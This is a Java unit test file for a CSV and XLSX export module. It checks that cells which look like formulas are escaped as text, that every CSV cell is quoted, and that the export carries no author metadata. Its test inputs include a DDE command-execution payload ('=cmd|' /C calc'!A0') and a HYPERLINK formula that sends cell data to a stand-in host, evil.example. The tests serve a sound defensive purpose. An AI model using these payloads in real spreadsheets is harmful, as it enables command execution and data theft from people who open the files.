/*
 * SPDX-License-Identifier: Apache-2.0
 * SPDX-FileCopyrightText: the yuqing authors
 */
package io.yuqing.gateway.desk.search.sheet;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.StringReader;
import java.util.ArrayList;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SheetsTest {
    private static final List<String> TEXTS =
            List.of(
                    "停水",
                    "",
                    " 停水 ",
                    "一\"二\"，'三',四;五",
                    "一行\n两行",
                    "<b>&amp;</b> ]]> <![CDATA[",
                    "😡𠮷\u202E",
                    "_x0041_ _x005F_",
                    "1-2=3+4@5",
                    "007",
                    "2026-03-02 10:00:00");

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://evil.example?\"&A1)",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tx",
                "\rx",
                " =1+1",
                "\u00A0=1+1",
                "\u3000=1+1",
                "\u200B=1+1",
                "\uFEFF=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠x"
            })
    void shouldMakeATextOfAFormula(String text) throws IOException {
        String lines = text.replace('\r', '\n');
        assertThat(csv(List.of(List.of(text)))).containsExactly(List.of("'" + lines));
        assertThat(xlsx(List.of(List.of(text)))).containsExactly(List.of("'" + lines));
    }

    /** Programs that part at semicolons or tabs too, and so must not find any outside of quotes. */
    @Test
    void shouldQuoteEveryCellOfACsv() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        CsvSheet sheet = new CsvSheet(out);
        sheet.row(List.of("攻击测试;=1+1;…\t=2+3", "停水", ""));
        sheet.end();

        assertThat(out.toString(UTF_8)).isEqualTo("\uFEFF\"攻击测试;=1+1;…\t=2+3\",\"停水\",\"\"\r\n");
    }

    @Test
    void shouldHoldEveryTextAsItIs() throws IOException {
        List<List<String>> rows = List.of(TEXTS, List.of("第二行"), TEXTS);

        assertThat(csv(rows)).isEqualTo(rows);
        assertThat(xlsx(rows)).isEqualTo(rows);
    }

    /** No cell holds a character that XML cannot. */
    @Test
    void shouldDropWhatNoWorkbookMayHold() throws IOException {
        assertThat(xlsx(List.of(List.of("停\u0000水\u0001\uFFFE\uD800了"))))
                .containsExactly(List.of("停水了"));
    }

    @Test
    void shouldNameNobody() throws IOException {
        byte[] file = xlsxBytes(List.of(TEXTS));
        List<String> parts = new ArrayList<>();
        try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(file))) {
            for (ZipEntry each = zip.getNextEntry(); each != null; each = zip.getNextEntry()) {
                parts.add(each.getName());
            }
        }
        assertThat(parts).noneMatch(name -> name.startsWith("docProps"));
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(file))) {
            assertThat(book.getProperties().getCoreProperties().getCreator()).isNull();
        }
    }

    @Test
    void shouldBeginACsvWithAMark() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new CsvSheet(out).end();

        assertThat(out.toByteArray()).containsExactly(0xEF, 0xBB, 0xBF);
    }

    /** Whoever has left is noticed while rows are sent. */
    @Test
    void shouldNoticeWhenNobodyTakesIt() throws IOException {
        OutputStream gone =
                new OutputStream() {
                    @Override
                    public void write(int b) throws IOException {
                        throw new IOException("gone");
                    }
                };
        Sheet sheet = new CsvSheet(gone);
        assertThatThrownBy(
                        () -> {
                            for (int i = 0; i < 20; i++) {
                                sheet.row(TEXTS);
                            }
                        })
                .isInstanceOf(IOException.class);
    }

    private static List<List<String>> csv(List<List<String>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(new CsvSheet(out), rows);
        String text = out.toString(UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try (CSVParser parser =
                CSVParser.parse(new StringReader(text.substring(1)), CSVFormat.EXCEL)) {
            return parser.stream().map(each -> List.copyOf(each.toList())).toList();
        }
    }

    private static List<List<String>> xlsx(List<List<String>> rows) throws IOException {
        List<List<String>> read = new ArrayList<>();
        try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsxBytes(rows)))) {
            assertThat(book.getSheetName(0)).isEqualTo("搜索");
            for (Row row : book.getSheetAt(0)) {
                List<String> cells = new ArrayList<>();
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).isEqualTo(CellType.STRING);
                    cells.add(cell.getStringCellValue());
                }
                read.add(cells);
            }
        }
        return read;
    }

    private static byte[] xlsxBytes(List<List<String>> rows) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        write(new XlsxSheet(out, "搜索", List.of(10, 20)), rows);
        return out.toByteArray();
    }

    private static void write(Sheet sheet, List<List<String>> rows) throws IOException {
        for (List<String> row : rows) {
            sheet.row(row);
        }
        sheet.end();
    }
}
